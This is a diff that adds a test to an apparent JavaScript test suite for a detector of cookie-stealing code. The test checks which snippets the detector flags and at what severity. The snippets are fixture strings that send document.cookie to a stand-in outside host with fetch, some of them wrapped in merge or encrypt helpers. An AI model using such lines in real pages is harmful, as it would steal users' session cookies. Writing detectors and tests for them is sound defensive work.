@@ -73,4 +73,15 @@ setTimeout(()=>save(read()),10)`,
 	])("leaves alone %s", (_title, code) => {
 		expect(findIn(cookieExfiltration, code)).toEqual([]);
 	});
+
+	test("data in an object that an unknown function received is possibly sent", () => {
+		const code =
+			'const all = tools.merge({ to: "https://c.stranger.test/" }, { text: document.cookie }); fetch(all.to);';
+		expect(findIn(cookieExfiltration, code)).toEqual([]);
+		const named = 'fetch("https://c.stranger.test/" + tools.merge({ a: 1 }, { text: document.cookie }).a);';
+		expect(findIn(cookieExfiltration, named)).toEqual(["medium 1"]);
+		expect(findIn(cookieExfiltration, 'fetch("https://c.stranger.test/" + tools.encrypt(document.cookie));')).toEqual([
+			"critical 1",
+		]);
+	});
 });
